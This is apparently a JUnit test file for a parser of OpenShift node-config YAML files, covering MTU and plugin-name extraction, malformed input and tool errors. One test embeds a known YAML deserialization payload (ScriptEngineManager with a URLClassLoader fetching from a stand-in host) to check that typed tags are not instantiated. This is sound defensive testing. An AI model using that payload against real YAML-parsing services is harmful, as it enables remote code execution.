package io.netrules.plugins.openshiftsdn.parse;

import io.netrules.parse.files.Samples;
import io.netrules.model.NodeConfig;
import io.netrules.model.ParseWarning;
import io.netrules.model.ToolErrorKind;
import io.netrules.parse.ParseContext;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

class NodeConfigParserTest {
    private static final String FILE = "nodes/node-1/etc/origin/node/node-config.yaml";

    private static ParseContext.Collecting parse(String text) {
        return ParseContext.collecting("node-1", FILE, "etc/origin/node/node-config.yaml")
                .parse(new NodeConfigParser(), text);
    }

    private static NodeConfig only(ParseContext.Collecting c) {
        List<NodeConfig> facts = c.facts(NodeConfig.class);
        assertEquals(1, facts.size());
        return facts.get(0);
    }

    @Test
    void openShift311NodeConfig() {
        var c = parse(Samples.read("node-config.yaml-3.11"));
        assertEquals(List.of(), c.warnings);
        NodeConfig nc = only(c);
        assertEquals("node-1", nc.node());
        assertEquals(1450, nc.mtu());
        assertEquals("redhat/openshift-ovs-multitenant", nc.networkPluginName());
        assertEquals("10.0.0.11", nc.nodeIP());
        assertEquals(FILE, nc.source().file());
        assertEquals(44, nc.source().line());
        assertEquals("mtu: 1450", nc.source().text());
    }

    @Test
    void openShift31TopLevelPluginNameIsUsedWhenNetworkConfigHasNone() {
        var c = parse(Samples.read("node-config.yaml-3.1"));
        assertEquals(List.of(), c.warnings);
        NodeConfig nc = only(c);
        assertEquals(1450, nc.mtu());
        assertEquals("redhat/openshift-ovs-subnet", nc.networkPluginName());
        assertNull(nc.nodeIP());
        assertEquals(17, nc.source().line());
    }

    @Test
    void networkConfigPluginNameWinsOverTopLevel() {
        var c = parse("networkPluginName: redhat/openshift-ovs-subnet\nnetworkConfig:\n"
                + "  networkPluginName: redhat/openshift-ovs-networkpolicy\n  mtu: \"8951\"\n");
        NodeConfig nc = only(c);
        assertEquals("redhat/openshift-ovs-networkpolicy", nc.networkPluginName());
        assertEquals(8951, nc.mtu());
        assertEquals(4, nc.source().line());
    }

    @Test
    void withoutMtuTheSourceIsLineOne() {
        var c = parse("apiVersion: v1\nkind: NodeConfig\nnetworkPluginName: redhat/openshift-ovs-subnet\n"
                + "nodeIP: \"\"\n");
        NodeConfig nc = only(c);
        assertNull(nc.mtu());
        assertNull(nc.nodeIP());
        assertEquals("redhat/openshift-ovs-subnet", nc.networkPluginName());
        assertEquals(1, nc.source().line());
        assertEquals("apiVersion: v1", nc.source().text());
        assertEquals(List.of(), c.warnings);
    }

    @Test
    void mtuThatIsNotANumberIsAWarningAndNull() {
        var c = parse("kind: NodeConfig\nnetworkConfig:\n  mtu: auto\n  networkPluginName: redhat/openshift-ovs-subnet\n");
        NodeConfig nc = only(c);
        assertNull(nc.mtu());
        assertEquals("redhat/openshift-ovs-subnet", nc.networkPluginName());
        assertEquals(3, nc.source().line());
        assertEquals(List.of(3), c.warnings.stream().map(ParseWarning::line).toList());
        assertTrue(c.warnings.get(0).text().contains("auto"));

        var big = parse("networkConfig:\n  mtu: 99999999999\n");
        assertNull(only(big).mtu());
        assertEquals(List.of(2), big.warnings.stream().map(ParseWarning::line).toList());

        var list = parse("networkConfig:\n  mtu: [1450]\n");
        assertNull(only(list).mtu());
        assertEquals(List.of(2), list.warnings.stream().map(ParseWarning::line).toList());
    }

    @Test
    void unrenderedTemplateIsUnusable() {
        // {{ x }} is a flow mapping used as a key: YAML a loader of node-config cannot read.
        var template = parse("networkConfig:\n  mtu: {{ openshift_node_sdn_mtu }}\n");
        assertEquals(0, template.facts(NodeConfig.class).size());
        assertEquals(List.of(2), template.warnings.stream().map(ParseWarning::line).toList());
    }

    @Test
    void malformedYamlIsOneWarningAtTheErrorLineAndNoFact() {
        var c = parse("kind: NodeConfig\nnetworkConfig:\n  mtu: 1450\n\tnetworkPluginName: redhat/openshift-ovs-subnet\n");
        assertEquals(0, c.facts(NodeConfig.class).size());
        assertEquals(1, c.warnings.size());
        assertEquals(4, c.warnings.get(0).line());
        assertTrue(c.warnings.get(0).text().startsWith("malformed YAML"), c.warnings.get(0).text());
    }

    @Test
    void garbageLineIsAWarningWithItsLineNumber() {
        var c = parse("kind: NodeConfig\nnetworkConfig:\n  mtu: 1450\n\u0000\u0001\uFFFD garbage\nnodeIP: 10.0.0.11\n");
        assertEquals(0, c.facts(NodeConfig.class).size());
        assertEquals(List.of(4), c.warnings.stream().map(ParseWarning::line).toList());
    }

    @Test
    void typedTagsAreNotInstantiated() {
        var c = parse("kind: NodeConfig\nevil: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                + "[[!!java.net.URL [\"http://192.0.2.1/\"]]]]\nnetworkConfig:\n  mtu: 1400\n");
        assertEquals(1400, only(c).mtu());
        assertEquals(List.of(), c.warnings);
    }

    @Test
    void crlfLineEnds() {
        var c = parse(Samples.read("node-config.yaml-3.11").replace("\n", "\r\n"));
        NodeConfig nc = only(c);
        assertEquals(1450, nc.mtu());
        assertEquals("mtu: 1450", nc.source().text());
        assertEquals(List.of(), c.warnings);
    }

    @Test
    void notAMappingAndToolFailures() {
        var scalar = parse("just some text\n");
        assertEquals(0, scalar.facts(NodeConfig.class).size());
        assertEquals(List.of(1), scalar.warnings.stream().map(ParseWarning::line).toList());

        var missing = parse("cat: /etc/origin/node/node-config.yaml: Permission denied\n");
        assertEquals(ToolErrorKind.PERMISSION_DENIED, missing.ctx.toolError().kind());
        assertEquals(List.of(), missing.warnings);
        assertEquals(0, missing.facts(NodeConfig.class).size());
    }

    @Test
    void emptyFile() {
        var c = parse("");
        assertEquals(List.of(), c.facts);
        assertEquals(List.of(), c.warnings);
        assertEquals(List.of(), parse("# nothing here\n\n").facts);
    }
}
